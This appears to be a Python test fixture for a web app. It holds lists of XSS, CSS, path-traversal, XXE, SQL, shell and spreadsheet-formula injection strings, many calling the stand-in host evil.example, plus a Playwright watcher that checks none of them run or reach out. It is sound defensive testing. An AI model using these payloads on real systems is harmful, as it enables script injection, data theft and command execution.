"""Texts that would run, lead away, or spoil something, were they taken for more than text.

Whatever runs sets `ran`, opens a dialog, asks another address, or breaks the policy of the page:
`Watch` sees all of these.
"""

from itertools import product

RUN = "window.ran=1"
_AWAY = "//evil.example"

SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"</script><script>{RUN}</script>",
    f"<script src={_AWAY}/x.js></script>",
    f"<script type=module>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script\n>{RUN}</script\n>",
    f"<script/x>{RUN}</script>",
    f"<<script>{RUN}//<</script>",
    f"<script>{RUN}",
    f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</noscript><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\\x3cscript\\x3e{RUN}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    f"<script>{RUN}</script>\u2028<script>{RUN}</script>",
    f"<scr\u0000ipt>{RUN}</script>",
    f"<sc\u0130ript>{RUN}</script>",
    f"<\u017fcript>{RUN}</script>",
]
EVENTS = [
    f"<{tag} {event}={RUN}{more}>"
    for tag, event, more in (
        ("img src=x", "onerror", ""),
        ("img src=x", "oNeRrOr", "//"),
        ("img/src=x", "/onerror", ""),
        ("image src=x", "onerror", ""),
        ("body", "onload", ""),
        ("body", "onpageshow", ""),
        ("svg", "onload", ""),
        ("svg/", "onload", "/"),
        ("input autofocus", "onfocus", ""),
        ("select autofocus", "onfocus", ""),
        ("textarea autofocus", "onfocus", ""),
        ("details open", "ontoggle", ""),
        ("video src=x", "onerror", ""),
        ("video><source", "onerror", ""),
        ("audio src=x", "onerror", ""),
        ("marquee", "onstart", ""),
        ("div", "onmouseover", " style=position:fixed;inset:0"),
        ("div", "onpointerenter", " style=position:fixed;inset:0"),
        ("b", "onclick", " style=position:fixed;inset:0"),
        ("style", "onload", ">*{}</style"),
        ("link rel=stylesheet href=x", "onerror", ""),
        ("iframe", "onload", ""),
        ("object data=x", "onerror", ""),
        ("p style=animation:ls-pop", "onanimationstart", ""),
        ("p style=transition:all tabindex=1 autofocus", "onfocus", ""),
        ("form><button", "onclick", ""),
        ("xss contenteditable autofocus", "onfocus", ""),
        ("dialog open", "onclose", ""),
        ("a href=#x id=x tabindex=1", "onfocus", ""),
    )
]
QUOTES = [
    f'" onmouseover="{RUN}',
    f"' onmouseover='{RUN}",
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"` onmouseover=`{RUN}",
    f'x" autofocus onfocus="{RUN}',
    f'\\"; {RUN}; //',
    f"'; {RUN}; //",
    f"`; {RUN}; `",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{{RUN}}}}}",
    f"<%= {RUN} %>",
    f"#{{{RUN}}}",
    f"[[${{{RUN}}}]]",
    f"{{%- {RUN} -%}}",
    f"</li></ul></main><script>{RUN}</script>",
    "</dialog></div></body></html>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<textarea>",
    "<title>",
    "<style>",
    "<select><option>",
    "<table><tr><td>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x>",
    "<img src=//evil.example/x.png>",
    "<img srcset='//evil.example/x.png 1x'>",
    "<video poster=//evil.example/x.png>",
    "<iframe src=//evil.example>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    "<object data=//evil.example>",
    "<embed src=//evil.example>",
    "<form action=//evil.example><input name=x><button>s</button></form>",
    "<input type=image src=//evil.example/x.png>",
    "<portal src=//evil.example>",
    "<frameset><frame src=//evil.example>",
    "<a href=//evil.example ping=//evil.example>press</a>",
    "<p id=linkshift class=ls-app data-part=pair data-view=ask>",
    "<button data-answer=same data-do=write>Same</button>",
    "<a id=localStorage name=localStorage>",
    "<form name=document><input name=body>",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"java\nscript:{RUN}",
    f"\u0001javascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"javascript://%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    f"<a href=javascript:{RUN} autofocus>press</a>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<form><button formaction=javascript:{RUN}>press</button></form>",
    "//evil.example/x.png",
    "https://evil.example/x.png",
    "http://127.0.0.1:1/x.png",
    "file:///etc/passwd",
    "../../../../../etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "/etc/passwd",
    "/api/state",
    "?token=x",
    "#x",
    "a/b?c=d&e=f#g",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%00",
    "%",
    "\\\\evil.example\\share",
]
DRAWN = [
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<svg><a href=javascript:{RUN}><text y=9>press</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<math><mi//xlink:href=data:x,<script>{RUN}</script>>",
    f"<math><style><img src=x onerror={RUN}></style></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<template><script>{RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml'><script>{RUN}</script></x>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
]
STYLES = [
    "</style><style>*{display:none}</style>",
    "*{background:url(//evil.example/x.png)}",
    "expression(window.ran=1)",
    "@import '//evil.example/x.css';",
    "red;background:url(//evil.example/x)",
    "--dot:url(//evil.example/x)",
    "url(javascript:window.ran=1)",
    "}*{visibility:hidden}",
    "<p style='position:fixed;inset:0;background:red;z-index:99'>",
    "<style>@import url(//evil.example/x.css)</style>",
    "#linkshift, [data-part=pair], .ls-app > * { display: none }",
]
TRICKS = [
    "\u202egnp.exe",  # written from right to left
    "\u2066left\u2069 \u202bright\u202c",
    "\u200bnothing\u200b to see",
    "\ufeffmark of the order of bytes",
    "\u0000zero",
    "between\u0000two",
    "\u0007\u0008\u001b[31mred\u001b[0m",
    "\u2028line\u2029paragraph",
    "\ufffe\uffff",
    "\U000e0001\U000e0041tags",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f" * 12 + "algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\u0645\u0631\u062d\u0628\u0627 abc \u05e9\u05dc\u05d5\u05dd",
    "\ufdfd" * 40,
    "\u1100" * 30 + "\u11ff" * 30,
    "A" * 5000,
    "<b>" * 900,
    "W" * 300 + " " * 300 + "!",
    "\n" * 200 + "deep below",
    "one\r\ntwo\rthree\nfour",
    "\ttabs\t\there",
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "__defineGetter__",
    '{"__proto__": {"polluted": 1}}',
    "[object Object]",
    "undefined",
    "null",
    "NaN",
    "true",
    "-1",
    "1e999",
    "0x10",
    "007",
    "1,234",
    "(empty)",
    "${jndi:ldap://evil.example/x}",
    "'; DROP TABLE events; --",
    "1 OR 1=1",
    "$(touch ran)",
    "`touch ran`",
    "| touch ran",
    "; touch ran",
    "%s%s%n%n",
    "{0.__class__}",
    "{self.__init__.__globals__}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.example","press")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    '"=1+1',
]
# What is in two languages at once: text that closes one thing and opens another.
CROSSED = [f"{close}{then}" for close, then in product(("'\">", "*/-->", "</a>"), EVENTS[:6])]

HOSTILE = [
    text
    for some in (SCRIPTS, EVENTS, QUOTES, ADDRESSES, DRAWN, STYLES, TRICKS, FORMULAS, CROSSED)
    for text in some
]
FILE_NAME = "<img src=x onerror=window.ran=1>\"'\n&amp;${window.ran=1}\u202e%00;\udcff.parquet"
WHO = f"<script>{RUN}</script>\"' onerror={RUN} __proto__"

_WATCH = """
window.violations = [];
addEventListener("securitypolicyviolation", (event) => {
  window.violations.push(`${event.violatedDirective} ${event.blockedURI}`);
}, true);
"""
_LOOK = """() => {
  const found = [];
  if ("ran" in window) found.push("something ran");
  found.push(...(window.violations ?? ["nobody watched"]));
  if (({}).polluted !== undefined || Object.keys(Object.prototype).length) found.push("polluted");
  if (document.querySelectorAll("script").length !== 1) found.push("scripts were added");
  const not = "iframe, object, embed, form, base, meta:not(head > meta), style, template, a[href],"
    + "link:not(head > link), svg:not(.ls-icon), math, video, marquee, xmp, plaintext, portal, b b";
  for (const node of document.querySelectorAll(not)) found.push(`an element: ${node.outerHTML}`);
  const ours = /^(blob:|\\/api\\/|start\\.js$|icon\\.svg$|style\\.css$)/;
  const set = "--[\\\\w-]+|touch-action|cursor|position|pointer-events|left|top|width|height";
  const style = new RegExp(`^((${set}):\\\\s*[\\\\w.%#, ()-]*(;\\\\s*|$))*$`);
  for (const node of document.querySelectorAll("*"))
    for (const { name, value } of node.attributes)
      if (name.startsWith("on")
        || (["href", "src", "action", "formaction"].includes(name) && !ours.test(value.trim()))
        || (name === "style" && (!style.test(value) || /url/i.test(value))))
        found.push(`an attribute: ${name}=${value}`);
  if (getComputedStyle(document.querySelector(".ls-app")).display === "none") found.push("hidden");
  return found;
}"""


class Watch:
    """Sees what runs, opens, or asks elsewhere. Made before the page is opened."""

    def __init__(self, page, origin):
        self.page, self.origin, self.seen = page, origin, []
        page.add_init_script(_WATCH)
        page.context.on("dialog", self._dialog)
        page.context.on("request", self._request)
        page.context.on("page", lambda other: self.seen.append(f"opened {other.url}"))

    def _dialog(self, dialog):
        self.seen.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _request(self, request):
        if not request.url.startswith((self.origin, f"blob:{self.origin}")):
            self.seen.append(f"request {request.url}")

    def check(self):
        """Nothing has happened so far, and nothing is on the page that could."""
        found = self.page.evaluate(_LOOK) + self.seen
        assert not found, "\n".join(found)
